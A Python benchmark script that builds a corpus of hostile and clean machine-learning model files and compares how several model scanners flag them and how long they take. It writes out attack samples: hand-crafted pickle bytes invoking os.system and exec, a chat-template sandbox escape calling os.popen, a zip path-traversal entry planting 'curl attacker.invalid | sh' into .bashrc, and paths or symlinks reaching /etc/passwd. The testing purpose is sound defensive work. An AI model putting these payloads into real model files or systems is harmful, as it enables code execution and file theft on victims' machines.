"""What modelpassport, hayward, picklescan, fickling and modelscan detect, and how fast.

The corpus is built fresh by the test corpus builder (tests/scan/corpus.py): one folder per
case, hostile or clean, nothing downloaded. The other scanners are installed into their own
virtual environment (default /tmp/mp-scan-bench-venv, created on first run with pip; never
a dependency of modelpassport). Every tool runs as a command-line process on each case
folder; a case counts as *flagged* when the tool reports something at medium severity or
above (or its "unsafe" exit status), *error* when it fails. Prints a Markdown table of
verdicts per case, detection and false-positive counts, and wall time per tool (all cases,
summed, plus the ratio against modelpassport measured in the same run).

    .venv/bin/python bench/bench_scan.py [--venv /tmp/mp-scan-bench-venv] [--json out.json]
"""

from __future__ import annotations

import argparse
import json
import os
import pickle
import shutil
import subprocess
import sys
import tempfile
import time
import venv
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from tests.scan import corpus

from modelpassport.artifacts import ArtifactSet
from modelpassport.refs import default_model_path
from modelpassport.scan import scan_artifacts

TOOLS = ("modelpassport", "hayward", "picklescan", "fickling", "modelscan")
# The same scan called as a library function in this process: no interpreter start-up and no
# passport/HTML/SARIF/BOM writing, i.e. the cost of the scan itself.
IN_PROCESS = "modelpassport (library call)"
PACKAGES = ("hayward", "picklescan", "fickling", "modelscan", "typing_extensions")
Verdict = str  # "flagged" | "clean" | "error" | "n/a"


def _pkl(obj: object, protocol: int = 2) -> Callable[[Path], None]:
    return lambda d: (d / "model.pkl").write_bytes(corpus.dumps(obj, protocol))


def _raw(name: str, data: bytes) -> Callable[[Path], None]:
    return lambda d: (d / name).write_bytes(data)


def _legacy_second_stream(d: Path) -> None:
    (d / "pytorch_model.bin").write_bytes(
        pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
        + pickle.dumps(1001, protocol=2)
        + corpus.dumps(corpus.state_dict(1), 2)
        + corpus.dumps(corpus.HOSTILE["os_system"], 2)
        + b"\0" * 64
    )


def _remote_code(d: Path) -> None:
    (d / "config.json").write_text(json.dumps({"auto_map": {"AutoModel": "modeling_x.M"}}))
    (d / "modeling_x.py").write_text(
        corpus.REMOTE_CODE.replace("from .helpers import cache_dir\n", "")
    )


def _template(template: str) -> Callable[[Path], None]:
    return lambda d: (d / "tokenizer_config.json").write_text(
        json.dumps({"chat_template": template})
    )


def _keras(layer: str) -> Callable[[Path], None]:
    def build(d: Path) -> None:
        with zipfile.ZipFile(d / "model.keras", "w") as zf:
            zf.writestr(
                "config.json",
                json.dumps(
                    {
                        "class_name": "Sequential",
                        "config": {"layers": [{"class_name": layer, "config": {"name": "l0"}}]},
                    }
                ),
            )
            zf.writestr("metadata.json", json.dumps({"keras_version": "3.0.0"}))

    return build


def _zip_escape(d: Path) -> None:
    with zipfile.ZipFile(d / "weights.zip", "w") as zf:
        zf.writestr("../../.bashrc", "curl attacker.invalid | sh\n")


def _gguf(d: Path) -> None:
    try:
        os.link(default_model_path(), d / "model.gguf")
    except OSError:
        shutil.copyfile(default_model_path(), d / "model.gguf")


# Memo-fetched STACK_GLOBAL: "os" and "system" stored, popped, fetched back with BINGET.
_MEMO_GLOBAL = b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x30\x30h\x00h\x01\x93\x8c\x02id\x85R."
_DYNAMIC_GLOBAL = b"\x80\x04\x8c\x08builtins\x8c\x03str\x93)R\x8c\x04exec\x93)R."

HOSTILE: dict[str, Callable[[Path], None]] = {
    **{
        f"pickle {name}": _pkl(obj, 2 if "py2" in name else 4)
        for name, obj in corpus.HOSTILE.items()
    },
    "pickle STACK_GLOBAL via memo": _raw("model.pkl", _MEMO_GLOBAL),
    "pickle computed STACK_GLOBAL": _raw("model.pkl", _DYNAMIC_GLOBAL),
    "torch zip with os.system": lambda d: corpus.torch_zip(
        d / "pytorch_model.bin", {**corpus.state_dict(1), "x": corpus.HOSTILE["os_system"]}
    ),
    "torch legacy, payload in 4th stream": _legacy_second_stream,
    "npy object array (exec)": lambda d: corpus.npy(
        d / "a.npy", "|O", (1,), corpus.dumps([corpus.HOSTILE["builtins_exec"]], 2)
    ),
    "joblib object array (os.system)": lambda d: corpus.joblib_file(
        d / "model.joblib",
        {
            "coef": corpus.JoblibArray("f8", (4,)),
            "classes": corpus.JoblibArray("O8", (1,), [corpus.HOSTILE["os_system"]]),
        },
    ),
    "keras Lambda layer": _keras("Lambda"),
    "chat template sandbox escape": _template(
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    ),
    "chat template hidden instruction": _template(corpus.HOSTILE_TEMPLATE.split("{{ cycler")[0]),
    "remote code (auto_map, os.system)": _remote_code,
    "safetensors overlapping offsets": lambda d: corpus.safetensors(
        d / "m.safetensors",
        {
            "a": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
            "b": {"dtype": "F32", "shape": [2, 2], "data_offsets": [8, 24]},
        },
        24,
    ),
    "zip member ../../.bashrc": _zip_escape,
    "ONNX external data ../../etc/passwd": lambda d: corpus.onnx_model(
        d / "m.onnx", {"w": "../../etc/passwd"}
    ),
    "symlink to /etc/passwd": lambda d: (d / "vocab.txt").symlink_to("/etc/passwd"),
}
CLEAN: dict[str, Callable[[Path], None]] = {
    "clean torch zip state dict": lambda d: corpus.torch_zip(
        d / "pytorch_model.bin", corpus.state_dict(4)
    ),
    "clean OrderedDict pickle (stdlib)": _raw(
        "model.pkl", pickle.dumps(OrderedDict(w=[0.5] * 8, step=3), protocol=4)
    ),
    "clean joblib arrays": lambda d: corpus.joblib_file(
        d / "model.joblib",
        {"coef": corpus.JoblibArray("f8", (4, 3)), "intercept": corpus.JoblibArray("f4", (3,))},
    ),
    "clean npy float array": lambda d: corpus.npy(d / "a.npy", "<f4", (4,), b"\0" * 16),
    "clean safetensors": lambda d: corpus.safetensors(
        d / "m.safetensors", {"a": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}, 16
    ),
    "clean HF folder + chat template": lambda d: corpus.clean_folder(d),
    "clean keras Dense": _keras("Dense"),
    "clean ONNX external data": lambda d: corpus.onnx_model(d / "m.onnx", {"w": "w.bin"}),
    "SmolLM2-135M GGUF (98 MB)": _gguf,
}


@dataclass
class Run:
    """One tool on one case; ``detail`` keeps the end of stderr when it failed."""

    verdict: Verdict
    seconds: float
    detail: str = ""


def _timed(cmd: list[str], cwd: Path) -> tuple[subprocess.CompletedProcess[str], float]:
    t0 = time.perf_counter()
    proc = subprocess.run(cmd, capture_output=True, text=True, cwd=cwd, timeout=300)
    return proc, time.perf_counter() - t0


def _modelpassport(case: Path, work: Path) -> Run:
    out = work / "mp-out"
    exe = str(Path(sys.executable).parent / "modelpassport")
    proc, secs = _timed([exe, "audit", str(case), "--stages", "scan", "--out", str(out)], work)
    if proc.returncode != 0:
        return Run("error", secs, proc.stderr[-300:])
    scan = json.loads((out / "passport.json").read_text())["findings"]["scan"]
    serious = [f for f in scan["findings"] if f["severity"] in ("critical", "high", "medium")]
    return Run("flagged" if serious else "clean", secs)


def _by_exit(cmd: list[str], work: Path, codes: dict[int, Verdict] | None = None) -> Run:
    proc, secs = _timed(cmd, work)
    verdict = (codes or {1: "flagged", 0: "clean"}).get(proc.returncode, "error")
    return Run(verdict, secs, "" if verdict != "error" else (proc.stdout + proc.stderr)[-300:])


def _fickling(case: Path, work: Path, bin_dir: Path) -> Run:
    verdicts, total = [], 0.0
    for path in sorted(p for p in case.rglob("*") if p.is_file() and not p.is_symlink()):
        run = _by_exit([str(bin_dir / "fickling"), "--check-safety", str(path)], work)
        verdicts.append(run.verdict)
        total += run.seconds
    if "flagged" in verdicts:
        return Run("flagged", total)
    return Run(
        "clean" if verdicts and set(verdicts) == {"clean"} else "error" if verdicts else "n/a",
        total,
    )


def _in_process(case: Path) -> Run:
    t0 = time.perf_counter()
    section = scan_artifacts(ArtifactSet.from_path(case))
    secs = time.perf_counter() - t0
    serious = [f for f in section.findings if f.severity in ("critical", "high", "medium")]
    return Run("flagged" if serious else "clean", secs)


def _run_tool(tool: str, case: Path, work: Path, bin_dir: Path) -> Run:
    if tool == IN_PROCESS:
        return _in_process(case)
    if tool == "modelpassport":
        return _modelpassport(case, work)
    if tool == "hayward":
        return _by_exit(
            [
                str(bin_dir / "hayward"),
                "scan",
                "--fail-on",
                "medium",
                "--color",
                "never",
                str(case),
            ],
            work,
        )
    if tool == "picklescan":
        return _by_exit([str(bin_dir / "picklescan"), "-p", str(case)], work)
    if tool == "modelscan":
        # Exit 3: no file modelscan supports in the folder, i.e. not scanned.
        return _by_exit(
            [str(bin_dir / "modelscan"), "-p", str(case)],
            work,
            {0: "clean", 1: "flagged", 3: "n/a"},
        )
    return _fickling(case, work, bin_dir)


def _ensure_venv(path: Path) -> Path:
    bin_dir = path / "bin"
    if not (bin_dir / "modelscan").exists():
        print(f"creating {path} and installing {', '.join(PACKAGES)} ...", file=sys.stderr)
        venv.create(path, with_pip=True)
        subprocess.run([str(bin_dir / "pip"), "install", "-q", *PACKAGES], check=True)
    return bin_dir


def _versions(bin_dir: Path) -> dict[str, str]:
    code = (
        "import importlib.metadata as m; print(' '.join(f'{p}=' + m.version(p) "
        "for p in ['hayward', 'picklescan', 'fickling', 'modelscan']))"
    )
    out = subprocess.run(
        [str(bin_dir / "python"), "-c", code], capture_output=True, text=True, check=True
    ).stdout.split()
    return dict(item.split("=") for item in out)


def main() -> None:
    """Build the corpus, run every tool on every case, print the table."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--venv", type=Path, default=Path("/tmp/mp-scan-bench-venv"))
    parser.add_argument("--json", type=Path, default=None)
    args = parser.parse_args()
    bin_dir = _ensure_venv(args.venv)
    versions = _versions(bin_dir)
    results: dict[str, dict[str, Run]] = {}
    with tempfile.TemporaryDirectory(prefix="mp-bench-scan-") as tmp:
        root = Path(tmp)
        for kind, cases in (("hostile", HOSTILE), ("clean", CLEAN)):
            for name, build in cases.items():
                case = root / kind / name.replace(" ", "_").replace("/", "_")
                case.mkdir(parents=True)
                build(case)
                work = root / "work" / case.name
                work.mkdir(parents=True)
                results[name] = {t: _run_tool(t, case, work, bin_dir) for t in (*TOOLS, IN_PROCESS)}
                print(
                    f"{name}: " + ", ".join(f"{t}={r.verdict}" for t, r in results[name].items()),
                    file=sys.stderr,
                )
    _print_table(results, versions)
    if args.json:
        args.json.write_text(
            json.dumps(
                {n: {t: r.__dict__ for t, r in runs.items()} for n, runs in results.items()},
                indent=2,
            )
        )


def _print_table(results: dict[str, dict[str, Run]], versions: dict[str, str]) -> None:
    mark = {"flagged": "flagged", "clean": "-", "error": "error", "n/a": "n/a"}
    print("| case | " + " | ".join(TOOLS) + " |")
    print("|---" * (len(TOOLS) + 1) + "|")
    for name, runs in results.items():
        print(f"| {name} | " + " | ".join(mark[runs[t].verdict] for t in TOOLS) + " |")
    hostile = [n for n in results if n in HOSTILE]
    clean = [n for n in results if n in CLEAN]
    detected = {t: sum(results[n][t].verdict == "flagged" for n in hostile) for t in TOOLS}
    false_pos = {
        t: sum(results[n][t].verdict in ("flagged", "error") for n in clean) for t in TOOLS
    }
    seconds = {t: sum(r[t].seconds for r in results.values()) for t in TOOLS}
    print(
        f"| **hostile flagged (of {len(hostile)})** | "
        + " | ".join(str(detected[t]) for t in TOOLS)
        + " |"
    )
    print(
        f"| **clean flagged or failed (of {len(clean)})** | "
        + " | ".join(str(false_pos[t]) for t in TOOLS)
        + " |"
    )
    print(
        "| **wall time, all cases (s)** | " + " | ".join(f"{seconds[t]:.1f}" for t in TOOLS) + " |"
    )
    base = seconds["modelpassport"]
    print(
        "| **time ratio vs modelpassport** | "
        + " | ".join(f"{seconds[t] / base:.2f}" for t in TOOLS)
        + " |"
    )
    lib = sum(r[IN_PROCESS].seconds for r in results.values())
    same = all(r[IN_PROCESS].verdict == r["modelpassport"].verdict for r in results.values())
    print()
    print(
        f"{IN_PROCESS}: {lib:.2f} s for all cases, verdicts "
        f"{'identical to' if same else 'DIFFERENT from'} the command line"
    )
    print("versions: " + ", ".join(f"{k} {v}" for k, v in sorted(versions.items())))


if __name__ == "__main__":
    main()
